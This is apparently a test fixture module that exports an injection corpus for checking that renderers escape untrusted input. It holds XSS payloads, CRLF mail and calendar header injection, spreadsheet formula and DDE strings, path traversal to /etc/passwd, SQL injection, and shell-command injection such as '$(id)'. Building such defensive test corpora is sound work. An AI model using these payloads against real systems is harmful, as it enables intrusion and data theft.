// Texts that would run, break out or lead astray wherever a page, a mail, a calendar or a header took them for more than
// text. Each that runs sets window.__pwned.

const run = 'window.__pwned=1'

const html = [
  `<script>${run}</script>`,
  `<ScRiPt>${run}</sCrIpT>`,
  `<script >${run}</script >`,
  `<script src=data:text/javascript,${run}></script>`,
  `<script type=module>${run}</script>`,
  `<<script>${run}//<</script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `</script><script>${run}</script>`,
  `--><script>${run}</script><!--`,
  `<!--><img src=x onerror=${run}>-->`,
  `]]><script>${run}</script>`,
  `</title><script>${run}</script>`,
  `</textarea><script>${run}</script>`,
  `</style><script>${run}</script>`,
  `</noscript><script>${run}</script>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<template><script>${run}</script></template>`,
  `<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>`,
  `<iframe src="javascript:parent.__pwned=1"></iframe>`,
  `<object data="javascript:${run}"></object>`,
  `<embed src="javascript:${run}">`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `<link rel=stylesheet href=data:text/css,*{display:none}>`,
  `<form action="https://evil.example"><button>Go</button></form>`,
  `<math><mtext></mtext><mglyph><style><img src=x onerror=${run}></style></mglyph></math>`,
  `<xmp><p title="</xmp><img src=x onerror=${run}>">`,
  `<plaintext>`,
  `<portal src="javascript:${run}">`,
  `<frameset onload=${run}>`,
  `<isindex type=image src=1 onerror=${run}>`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&#60;script&#62;${run}&#60;/script&#62;`,
  `&amp;lt;b&amp;gt;`,
  `<b>bold</b>`,
  `<!DOCTYPE html><html><body onload=${run}>`,
]

const handlers = 'error load focus mouseover click toggle animationstart pointerenter beforetoggle begin'.split(' ')
const onTags = handlers.flatMap((name) => [
  `<img src=x on${name}=${run}>`,
  `<details open on${name}="${run}"><summary>x</summary></details>`,
  `<input autofocus on${name}='${run}'>`,
])

const attributes = ['"', "'", '`', '&quot;', '\\"', '" x="'].flatMap((quote) => [
  `${quote}><img src=x onerror=${run}>`,
  `${quote} onmouseover=${run} x=${quote}`,
  `${quote} autofocus onfocus=${run} tabindex=1 ${quote}`,
  `${quote} style=animation-name:x onanimationstart=${run} ${quote}`,
])

const addresses = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `java\tscript:${run}`,
  ` javascript:${run}`,
  `javascript://example.org/%0a${run}`,
  `javascript&colon;${run}`,
  `data:text/html,<script>${run}</script>`,
  `data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+`,
  `vbscript:msgbox(1)`,
  `//evil.example/x`,
  `https:evil.example`,
  `https://example.org@evil.example/`,
  `https://example.org\\@evil.example`,
  `https://example.org/"onmouseover="${run}`,
  `blob:https://example.org/x`,
  `file:///etc/passwd`,
]

const svg = [
  `<svg onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><script href=data:text/javascript,${run} />`,
  `<svg><a xlink:href="javascript:${run}"><text>x</text></a></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><set attributeName=href to=javascript:${run}>`,
  `<svg><foreignObject><img src=x onerror=${run}></foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${run}>#x"></use></svg>`,
  `<svg><style><img src=x onerror=${run}></style></svg>`,
  `<svg><title><img src=x onerror=${run}></title></svg>`,
]

const markdown = [
  `[x](javascript:${run})`,
  `[x](JaVaScRiPt:${run})`,
  `[x](java&#x0A;script:${run})`,
  `![x](javascript:${run})`,
  `![x" onerror="${run}](https://example.org/x.png)`,
  `[x](https://example.org "t\\" onmouseover=\\"${run}")`,
  `<javascript:${run}>`,
  `[x]: javascript:${run}`,
  `[x][y]`,
  `[y]: data:text/html,<script>${run}</script>`,
  `<https://example.org/"onclick="${run}>`,
  '```<script>window.__pwned=1</script>```',
  '`<img src=x onerror=window.__pwned=1>`',
  `> <script>${run}</script>`,
  `# <script>${run}</script>`,
  `| <script>${run}</script> | b |`,
  `- [ ] <img src=x onerror=${run}>`,
  `[^1]: <script>${run}</script>`,
  `**<b onmouseover=${run}>x</b>**`,
  `~~[x](vbscript:x)~~`,
  `\\<script>${run}\\</script>`,
  `www.example.org/"><script>${run}</script>`,
]

const scripts = [
  `"}</script><script>${run}</script>`,
  `","x":"</script><img src=x onerror=${run}>`,
  `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
  `<!--<script>${run}`,
  `';${run};'`,
  `";${run};"`,
  `\\';${run};//`,
  `\${${run}}`,
  `{{constructor.constructor('${run}')()}}`,
  `{{7*7}}`,
  `<%= 7*7 %>`,
  `#{7*7}`,
  `\${7*7}`,
  `{%raw%}{{x}}`,
  `__proto__`,
  `constructor`,
  `toString`,
  `{"__proto__":{"polluted":true}}`,
  `null`,
  `undefined`,
  `NaN`,
  `0`,
  `$1`,
  `$&`,
  `%s%n%d`,
  `%3Cscript%3E`,
]

const styles = [
  `</style><img src=x onerror=${run}>`,
  `expression(${run})`,
  `x:expression(${run})`,
  `background:url(javascript:${run})`,
  `@import 'https://evil.example/x.css';`,
  `} body { display: none } x {`,
  `;position:fixed;inset:0;z-index:9999`,
]

const unicode = [
  '\u202etxt.exe',
  '\u2066evil\u2069',
  'a\u200bb',
  'ﬁ＜script＞',
  'Ａｄｍｉｎ',
  'аdmin',
  '‮‮‮',
  '𝒮𝒸𝓇𝒾𝓅𝓉',
  'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘',
  '👩‍👩‍👧‍👦',
  'שלום <b>עולם</b>',
  '﷽',
  '\ufeffbom',
  '\u00a0',
]

const lines = [
  'a\r\nBEGIN:VEVENT\r\nSUMMARY:evil\r\nEND:VEVENT',
  'a\nATTENDEE:mailto:evil@example.org',
  'END:VEVENT\\nBEGIN:VALARM',
  ';TZID=Evil:19700101T000000',
  'a,b;c\\d\\n',
  '"quoted";x=1:y',
  'a\r\nBcc: evil@example.org',
  'a\nContent-Type: text/html\n\n<script>window.__pwned=1</script>',
  'a%0d%0aBcc:evil@example.org',
  '=?utf-8?Q?evil?=',
  'Evil <evil@example.org>',
  '"evil@example.org" <ana@example.org>',
  'a\r\nSet-Cookie: x=1',
]

const sheets = ['=1+1', '=HYPERLINK("https://evil.example")', '+1', '-1+1', '@SUM(A1)', '\t=1+1', "=cmd|' /C calc'!A0"]
const files = ['../../etc/passwd', '..\\..\\x', '/etc/passwd', 'x\u0000.png', 'CON', '.htaccess', '%2e%2e%2f', 'C:\\x']
const queries = ["'; DROP TABLE x; --", "' OR '1'='1", '" OR ""="', '$(id)', '`id`', '| id', '; id', '*)(uid=*']

/** The whole corpus: two hundred and more, each once. */
export const injections: readonly string[] = [
  ...new Set([
    ...[...html, ...onTags, ...attributes, ...addresses, ...svg, ...markdown, ...scripts, ...styles, ...unicode],
    ...[...lines, ...sheets, ...files, ...queries],
  ]),
]
